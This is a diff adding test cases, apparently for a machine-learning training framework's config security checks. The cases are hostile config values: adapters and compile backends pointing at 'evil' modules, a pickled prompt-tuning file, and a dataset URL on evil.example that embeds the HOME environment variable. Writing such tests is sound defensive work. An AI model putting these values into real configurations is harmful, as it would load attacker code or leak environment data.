@@ -388,6 +388,14 @@ FILES |= {
     "pickles by a number": _loading("{use_safetensors: 0}"),
     "a module of peft's": _experiment("peft: {megatron_core: evil.core}", "peft=lora"),
     "a mapping to a module": _experiment("peft: {auto_mapping: {parent_library: evil}}", "peft=lora"),
+    "adapters beside the checks": _experiment(
+        "peft: {_target_: peft.XLoraConfig, hidden_size: 128, adapters: {a: evil/adapter}}"
+    ),
+    "a pickle of a learnt prompt": _experiment(
+        "peft: {_target_: peft.MultitaskPromptTuningConfig, num_virtual_tokens: 3, "
+        "prompt_tuning_init_state_dict_path: x.bin}"
+    ),
+    "a module of deepspeed": _experiment("trainer: {args: {deepspeed: {compile: {backend: evil.run}}}}"),
     "an option with trust": ({"model/mine.yaml": "defaults: [tiny]\ntrust_remote_code: true\n"}, ["model=mine"]),
     "a sweep that trusts": _sweep("params: {seed: '0,1', model.trust_remote_code: 'true'}"),
     "a sweep that allows": _sweep("params: {seed: '0,1', allow: '[evil]'}"),
@@ -443,6 +451,8 @@ FILES |= {
     "a folder of deepspeed": _experiment(
         "trainer: {args: {deepspeed: {tensorboard: {enabled: true, output_path: /tmp/elsewhere}}}}"
     ),
+    "rows of a server": _experiment("dataset: {path: 'https://evil.example/${oc.env:HOME}', form: text}"),
+    "rows of several servers": _experiment("dataset: {path: ['http://evil.example/a.jsonl'], form: text}"),
     "a cache of an adapter": _experiment("peft: {corda_config: {cache_file: /etc/x}}", "peft=lora"),
     "runs outside": _experiment("output_root: /tmp/elsewhere", "--dry-run"),
     "runs above": _experiment("output_root: ../x", "--dry-run"),
